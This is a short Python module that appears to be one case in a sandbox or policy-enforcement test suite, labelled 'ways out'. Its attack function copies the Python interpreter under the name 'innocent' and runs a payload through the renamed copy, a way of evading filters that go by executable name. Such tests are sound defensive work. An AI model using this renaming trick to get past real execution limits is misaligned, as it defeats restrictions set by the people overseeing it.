"""A copy of the interpreter under another name."""
CATEGORY = "ways out"
REACH = "net"
POLICIES = "allow"
GRANT = {"run": True}

import os
import shutil
import subprocess
import sys

from . import payload


def attack():
    path = payload.ROOT + "/tmp/innocent"
    shutil.copy(os.path.realpath(payload.PYTHON), path)
    subprocess.run([path, "-S", "-c", payload.SOURCE],
                   env={"PYTHONPATH": os.pathsep.join(sys.path)})
